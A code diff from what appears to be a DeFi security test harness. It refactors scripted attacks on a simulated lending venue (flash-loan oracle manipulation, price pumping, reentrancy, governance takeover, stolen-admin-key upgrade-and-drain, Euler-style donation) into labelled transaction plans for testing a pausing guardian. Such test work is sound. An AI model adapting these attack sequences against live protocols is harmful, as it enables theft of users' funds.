@@ -1,23 +1,28 @@
 //! The attacks on the reference venue, each a script over the attack contracts.
 //!
-//! An [`Attack`] has a `prepare` step (the attacker's setup that takes nothing from the venue: deploying a
-//! contract, acquiring starting capital off-venue) and an `execute` step (the transactions that take funds,
-//! spread over blocks where the real attack was). The venue scope each attack hits is `target`: a pause of that
+//! An [`Attack`] is planned as data ([`AttackPlan`]): a `prepare` phase (acquiring starting capital off-venue,
+//! deploying the attack contract) and an `execute` phase (the transactions that take funds, spread over blocks
+//! where the real attack was), each transaction with its block offset and ground-truth label. The plan runs on any
+//! [`Backend`] (`prepare`, `execute`) or is scheduled into the in-process chain's blocks by a scenario. The venue scope each attack hits is `target`: a pause of that
 //! scope by the Guardian must make `execute` fail.
 //!
 //! Parameters are sized for the default [`crate::VenueConfig`]. The in-process chain issue turns these into
 //! block-by-block scenarios among ordinary traffic.
 
-use alloy::primitives::{Address, U256};
+use alloy::{
+    primitives::{keccak256, Address, Bytes, U256},
+    sol_types::SolCall,
+};
 use vigil_contracts::{
-    EulerStyleAttacker, FlashLoanOracleAttack, GovToken, GovernanceAttacker, HookToken, LegacyBorrowDrainer,
-    ReentrancyAttacker, ReserveDrainer, ReserveVault, SpotPumpAttacker, StableToken,
+    EulerStyleAttacker, FlashLoanOracleAttack, GovernanceAttacker, HookToken, LegacyBorrowDrainer, ReentrancyAttacker,
+    ReserveDrainer, ReserveVault, SpotPumpAttacker, StableToken, WrappedEther, IERC20,
 };
 
 use crate::actors::Actors;
 use crate::backend::{Backend, ExecError};
+use crate::chain::{TxLabel, TxRequest};
 use crate::state::{Holdings, VenueState};
-use crate::venue::{approve, initcode, transfer, units18, usd, wrap_eth, Venue, MARKET_WETH_SPOT};
+use crate::venue::{initcode, units18, usd, Venue, MARKET_WETH_SPOT};
 
 /// Seconds between blocks on the proving ground.
 pub const BLOCK_SECONDS: u64 = 12;
@@ -75,11 +80,119 @@ pub enum Attack {
     EulerDonation,
 }
 
-/// Where an attack's contract is, between `prepare` and `execute`.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub struct Prepared {
-    /// The attack contract, if the attack uses one before `execute`.
-    pub contract: Option<Address>,
+/// One planned transaction: `block` counts blocks from the start of its phase.
+#[derive(Debug, Clone)]
+pub struct PlannedTx {
+    /// Block offset within the phase.
+    pub block: u64,
+    /// The transaction.
+    pub req: TxRequest,
+    /// For a contract creation, the address it will have.
+    pub created: Option<Address>,
+}
+
+/// An attack as transactions: `prepare` (setup, including deploying the attack contract) and `execute` (the
+/// transactions that take funds). Scenarios choose how many blocks separate the two.
+#[derive(Debug, Clone)]
+pub struct AttackPlan {
+    /// Which attack.
+    pub attack: Attack,
+    /// Setup.
+    pub prepare: Vec<PlannedTx>,
+    /// Taking funds.
+    pub execute: Vec<PlannedTx>,
+}
+
+impl AttackPlan {
+    /// The attack contract deployed in the prepare phase, if any.
+    pub fn contract(&self) -> Option<Address> {
+        self.prepare.iter().find_map(|t| t.created)
+    }
+
+    /// Blocks the execute phase spans.
+    pub fn execute_blocks(&self) -> u64 {
+        self.execute.iter().map(|t| t.block + 1).max().unwrap_or(0)
+    }
+}
+
+/// Builds plans, predicting the attacker's nonces.
+struct Planner {
+    me: Address,
+    nonce: u64,
+    name: &'static str,
+    prepare: Vec<PlannedTx>,
+    execute: Vec<PlannedTx>,
+}
+
+impl Planner {
+    fn label(&self, step: &str, malicious: bool) -> TxLabel {
+        TxLabel { what: format!("attack:{}:{step}", self.name), malicious }
+    }
+
+    /// A setup transaction by someone else (buying capital off-venue): not malicious.
+    fn setup<C: SolCall>(&mut self, from: Address, to: Address, call: C, step: &str) {
+        let label = TxLabel { what: format!("setup:{}:{step}", self.name), malicious: false };
+        self.prepare.push(PlannedTx {
+            block: 0,
+            req: TxRequest { from, to: Some(to), data: call.abi_encode().into(), value: U256::ZERO, label },
+            created: None,
+        });
+    }
+
+    /// The attacker deploys its contract in the prepare phase; returns the predicted address.
+    fn deploy(&mut self, block: u64, initcode: Bytes) -> Address {
+        let address = self.me.create(self.nonce);
+        let label = self.label("deploy", true);
+        self.prepare.push(PlannedTx {
+            block,
+            req: TxRequest { from: self.me, to: None, data: initcode, value: U256::ZERO, label },
+            created: Some(address),
+        });
+        self.nonce += 1;
+        address
+    }
+
+    fn prepare_call<C: SolCall>(&mut self, block: u64, to: Address, call: C, step: &str) {
+        self.prepare_value(block, to, call, U256::ZERO, step)
+    }
+
+    fn prepare_value<C: SolCall>(&mut self, block: u64, to: Address, call: C, value: U256, step: &str) {
+        let label = self.label(step, true);
+        self.prepare.push(PlannedTx {
+            block,
+            req: TxRequest { from: self.me, to: Some(to), data: call.abi_encode().into(), value, label },
+            created: None,
+        });
+        self.nonce += 1;
+    }
+
+    fn exec<C: SolCall>(&mut self, block: u64, to: Address, call: C, step: &str) {
+        let label = self.label(step, true);
+        self.execute.push(PlannedTx {
+            block,
+            req: TxRequest { from: self.me, to: Some(to), data: call.abi_encode().into(), value: U256::ZERO, label },
+            created: None,
+        });
+        self.nonce += 1;
+    }
+}
+
+/// Sends a phase's transactions, mining a block whenever the plan moves to a later block.
+fn run_phase<B: Backend>(chain: &mut B, txs: &[PlannedTx]) -> Result<(), ExecError> {
+    let mut block = 0;
+    for t in txs {
+        if t.block > block {
+            chain.advance(t.block - block, BLOCK_SECONDS)?;
+            block = t.block;
+        }
+        match t.req.to {
+            None => {
+                chain.deploy(t.req.from, t.req.data.clone())?;
+            }
+            Some(to) => chain.send(t.req.from, to, t.req.data.clone(), t.req.value)?,
+        }
+    }
+    Ok(())
 }
 
 impl Attack {
@@ -118,29 +231,47 @@ impl Attack {
         }
     }
 
-    /// The attacker's setup: takes nothing from the venue.
-    pub fn prepare<B: Backend>(&self, chain: &mut B, a: &Actors, v: &Venue) -> Result<Prepared, ExecError> {
+    /// The attack as transactions, with the attacker's current nonce (contract addresses are predicted from it).
+    pub fn plan(&self, a: &Actors, v: &Venue, attacker_nonce: u64) -> AttackPlan {
         let me = a.attacker.address();
-        let contract = match self {
-            Attack::FlashLoanOracle => Some(chain.deploy(
-                me,
-                initcode(
-                    &FlashLoanOracleAttack::BYTECODE,
-                    FlashLoanOracleAttack::constructorCall {
-                        lender_: v.flash_lender,
-                        pair_: v.pair,
-                        router_: v.router,
-                        pool_: v.pool,
-                        usd_: v.usd,
-                        weth_: v.weth,
+        let mut p = Planner { me, nonce: attacker_nonce, name: self.name(), prepare: vec![], execute: vec![] };
+        match self {
+            Attack::FlashLoanOracle => {
+                let c = p.deploy(
+                    0,
+                    initcode(
+                        &FlashLoanOracleAttack::BYTECODE,
+                        FlashLoanOracleAttack::constructorCall {
+                            lender_: v.flash_lender,
+                            pair_: v.pair,
+                            router_: v.router,
+                            pool_: v.pool,
+                            usd_: v.usd,
+                            weth_: v.weth,
+                        },
+                    ),
+                );
+                p.exec(
+                    0,
+                    c,
+                    FlashLoanOracleAttack::attackCall {
+                        flashAmount: usd(3_000_000),
+                        collateralBps: U256::from(2_000),
+                        marketId: U256::from(MARKET_WETH_SPOT),
                     },
-                ),
-            )?),
+                    "flash-loan",
+                );
+            }
             Attack::SpotPump => {
                 // Starting capital bought off-venue.
-                chain.exec(a.deployer.address(), v.usd, StableToken::mintCall { to: me, amount: usd(2_000_000) })?;
-                let c = chain.deploy(
-                    me,
+                p.setup(
+                    a.deployer.address(),
+                    v.usd,
+                    StableToken::mintCall { to: me, amount: usd(2_000_000) },
+                    "buy capital",
+                );
+                let c = p.deploy(
+                    0,
                     initcode(
                         &SpotPumpAttacker::BYTECODE,
                         SpotPumpAttacker::constructorCall {
@@ -151,39 +282,50 @@ impl Attack {
                             weth_: v.weth,
                         },
                     ),
-                )?;
-                approve(chain, v.usd, me, c, U256::MAX)?;
-                Some(c)
+                );
+                p.prepare_call(0, v.usd, IERC20::approveCall { spender: c, value: U256::MAX }, "approve");
+                for block in 0..4 {
+                    p.exec(block, c, SpotPumpAttacker::pumpCall { usdAmount: usd(500_000) }, "pump");
+                }
+                p.exec(4, c, SpotPumpAttacker::borrowAgainstCall { marketId: U256::from(MARKET_WETH_SPOT) }, "borrow");
             }
             Attack::LegacyBorrowDrain => {
-                let c = chain.deploy(
-                    me,
+                let c = p.deploy(
+                    0,
                     initcode(
                         &LegacyBorrowDrainer::BYTECODE,
                         LegacyBorrowDrainer::constructorCall { market_: v.legacy_market },
                     ),
-                )?;
-                wrap_eth(chain, v, me, units18(2))?;
-                approve(chain, v.weth, me, c, U256::MAX)?;
-                Some(c)
+                );
+                p.prepare_value(0, v.weth, WrappedEther::depositCall {}, units18(2), "wrap");
+                p.prepare_call(0, v.weth, IERC20::approveCall { spender: c, value: U256::MAX }, "approve");
+                p.exec(0, c, LegacyBorrowDrainer::setupCall { collateral: units18(2) }, "collateral");
+                for block in 1..=40 {
+                    p.exec(block, c, LegacyBorrowDrainer::stepCall { count: U256::from(1) }, "borrow");
+                }
             }
             Attack::Reentrancy => {
-                chain.exec(a.deployer.address(), v.hbtc, HookToken::mintCall { to: me, amount: units18(10) })?;
-                let c = chain.deploy(
-                    me,
+                p.setup(a.deployer.address(), v.hbtc, HookToken::mintCall { to: me, amount: units18(10) }, "buy hBTC");
+                let c = p.deploy(
+                    0,
                     initcode(
                         &ReentrancyAttacker::BYTECODE,
                         ReentrancyAttacker::constructorCall { vault_: v.legacy_vault, token_: v.hbtc },
                     ),
-                )?;
-                approve(chain, v.hbtc, me, c, U256::MAX)?;
-                Some(c)
+                );
+                p.prepare_call(0, v.hbtc, IERC20::approveCall { spender: c, value: U256::MAX }, "approve");
+                p.exec(0, c, ReentrancyAttacker::attackCall { stake: units18(10) }, "reenter");
             }
             Attack::GovernanceTakeover => {
                 // A little VGOV, bought from the team allocation, pays the flash-loan fees.
-                transfer(chain, v.gov, a.deployer.address(), me, units18(1_000))?;
-                let c = chain.deploy(
-                    me,
+                p.setup(
+                    a.deployer.address(),
+                    v.gov,
+                    IERC20::transferCall { to: me, value: units18(1_000) },
+                    "buy VGOV",
+                );
+                let c = p.deploy(
+                    0,
                     initcode(
                         &GovernanceAttacker::BYTECODE,
                         GovernanceAttacker::constructorCall {
@@ -193,20 +335,79 @@ impl Attack {
                             reserve_: v.reserve,
                         },
                     ),
-                )?;
-                chain.exec(me, v.gov, GovToken::transferCall { to: c, value: units18(1_000) })?;
-                Some(c)
+                );
+                p.prepare_call(0, v.gov, IERC20::transferCall { to: c, value: units18(1_000) }, "fund");
+                p.exec(0, c, GovernanceAttacker::proposeCall { tokens: vec![v.usd, v.weth] }, "propose");
+                let day = (24 * 3600u64).div_ceil(BLOCK_SECONDS) + 1;
+                p.exec(day, c, GovernanceAttacker::executeCall { votes: units18(690_000) }, "vote-and-commit");
             }
-            Attack::AdminKey => None,
-            Attack::EulerDonation => Some(chain.deploy(
-                me,
-                initcode(
-                    &EulerStyleAttacker::BYTECODE,
-                    EulerStyleAttacker::constructorCall { lender_: v.flash_lender, market_: v.legacy_market },
-                ),
-            )?),
-        };
-        Ok(Prepared { contract })
+            Attack::AdminKey => {
+                let role = keccak256("UPGRADER_ROLE");
+                p.execute.push(PlannedTx {
+                    block: 0,
+                    req: TxRequest::call(
+                        a.ops.address(),
+                        v.reserve,
+                        ReserveVault::grantRoleCall { role, account: me },
+                        "attack:admin-key:grant-role (stolen key)",
+                        true,
+                    ),
+                    created: None,
+                });
+                let drainer = me.create(p.nonce);
+                p.nonce += 1;
+                p.execute.push(PlannedTx {
+                    block: 1,
+                    req: TxRequest {
+                        from: me,
+                        to: None,
+                        data: initcode(&ReserveDrainer::BYTECODE, ReserveDrainer::constructorCall { attacker_: me }),
+                        value: U256::ZERO,
+                        label: TxLabel { what: "attack:admin-key:deploy".into(), malicious: true },
+                    },
+                    created: Some(drainer),
+                });
+                let drain = ReserveDrainer::drainCall { tokens: vec![v.usd, v.weth] };
+                p.exec(
+                    2,
+                    v.reserve,
+                    ReserveVault::upgradeToAndCallCall { newImplementation: drainer, data: drain.abi_encode().into() },
+                    "upgrade-and-drain",
+                );
+            }
+            Attack::EulerDonation => {
+                let c = p.deploy(
+                    0,
+                    initcode(
+                        &EulerStyleAttacker::BYTECODE,
+                        EulerStyleAttacker::constructorCall { lender_: v.flash_lender, market_: v.legacy_market },
+                    ),
+                );
+                p.exec(
+                    0,
+                    c,
+                    EulerStyleAttacker::attackCall {
+                        flashAmount: usd(200_000),
+                        mintAmount: usd(2_000_000),
+                        donateAmount: usd(500_000),
+                    },
+                    "donate-and-liquidate",
+                );
+            }
+        }
+        AttackPlan { attack: *self, prepare: p.prepare, execute: p.execute }
+    }
+
+    /// Runs the plan's prepare phase on `chain` (blocks mined between its blocks); returns the plan.
+    pub fn prepare<B: Backend>(&self, chain: &mut B, a: &Actors, v: &Venue) -> Result<AttackPlan, ExecError> {
+        let plan = self.plan(a, v, chain.nonce(a.attacker.address())?);
+        run_phase(chain, &plan.prepare)?;
+        Ok(plan)
+    }
+
+    /// Runs the plan's execute phase on `chain` (blocks mined between its blocks).
+    pub fn execute<B: Backend>(&self, chain: &mut B, plan: &AttackPlan) -> Result<(), ExecError> {
+        run_phase(chain, &plan.execute)
     }
 
     /// Runs `execute` between two readings of the attacker's and the venue's state.
@@ -215,12 +416,12 @@ impl Attack {
         chain: &mut B,
         a: &Actors,
         v: &Venue,
-        p: &Prepared,
+        plan: &AttackPlan,
     ) -> Result<AttackOutcome, ExecError> {
         let me = a.attacker.address();
         let attacker_before = Holdings::read(chain, v, me)?;
         let venue_before = VenueState::read(chain, v)?;
-        let result = self.execute(chain, a, v, p);
+        let result = self.execute(chain, plan);
         Ok(AttackOutcome {
             attacker_before,
             attacker_after: Holdings::read(chain, v, me)?,
@@ -228,79 +429,5 @@ impl Attack {
             venue_after: VenueState::read(chain, v)?,
             result,
         })
-    }
-
-    /// The transactions that take funds, with blocks mined between the steps of multi-block attacks.
-    pub fn execute<B: Backend>(&self, chain: &mut B, a: &Actors, v: &Venue, p: &Prepared) -> Result<(), ExecError> {
-        let me = a.attacker.address();
-        let contract = || {
-            p.contract.ok_or_else(|| ExecError::Invalid {
-                what: "attack".into(),
-                reason: "execute called before prepare".into(),
-            })
-        };
-        match self {
-            Attack::FlashLoanOracle => chain.exec(
-                me,
-                contract()?,
-                FlashLoanOracleAttack::attackCall {
-                    flashAmount: usd(3_000_000),
-                    collateralBps: U256::from(2_000),
-                    marketId: U256::from(MARKET_WETH_SPOT),
-                },
-            ),
-            Attack::SpotPump => {
-                let c = contract()?;
-                for _ in 0..4 {
-                    chain.exec(me, c, SpotPumpAttacker::pumpCall { usdAmount: usd(500_000) })?;
-                    chain.advance(1, BLOCK_SECONDS)?;
-                }
-                chain.exec(me, c, SpotPumpAttacker::borrowAgainstCall { marketId: U256::from(MARKET_WETH_SPOT) })
-            }
-            Attack::LegacyBorrowDrain => {
-                let c = contract()?;
-                chain.exec(me, c, LegacyBorrowDrainer::setupCall { collateral: units18(2) })?;
-                for _ in 0..40 {
-                    chain.advance(1, BLOCK_SECONDS)?;
-                    chain.exec(me, c, LegacyBorrowDrainer::stepCall { count: U256::from(1) })?;
-                }
-                Ok(())
-            }
-            Attack::Reentrancy => chain.exec(me, contract()?, ReentrancyAttacker::attackCall { stake: units18(10) }),
-            Attack::GovernanceTakeover => {
-                let c = contract()?;
-                chain.exec(me, c, GovernanceAttacker::proposeCall { tokens: vec![v.usd, v.weth] })?;
-                chain.advance(1, 24 * 3600 + BLOCK_SECONDS)?;
-                chain.exec(me, c, GovernanceAttacker::executeCall { votes: units18(690_000) })
-            }
-            Attack::AdminKey => {
-                let upgrader = chain.read(v.reserve, ReserveVault::UPGRADER_ROLECall {})?;
-                chain.exec(a.ops.address(), v.reserve, ReserveVault::grantRoleCall { role: upgrader, account: me })?;
-                chain.advance(1, BLOCK_SECONDS)?;
-                let drainer = chain.deploy(
-                    me,
-                    initcode(&ReserveDrainer::BYTECODE, ReserveDrainer::constructorCall { attacker_: me }),
-                )?;
-                chain.advance(1, BLOCK_SECONDS)?;
-                let drain = ReserveDrainer::drainCall { tokens: vec![v.usd, v.weth] };
-                chain.exec(
-                    me,
-                    v.reserve,
-                    ReserveVault::upgradeToAndCallCall {
-                        newImplementation: drainer,
-                        data: alloy::sol_types::SolCall::abi_encode(&drain).into(),
-                    },
-                )
-            }
-            Attack::EulerDonation => chain.exec(
-                me,
-                contract()?,
-                EulerStyleAttacker::attackCall {
-                    flashAmount: usd(200_000),
-                    mintAmount: usd(2_000_000),
-                    donateAmount: usd(500_000),
-                },
-            ),
-        }
     }
 }
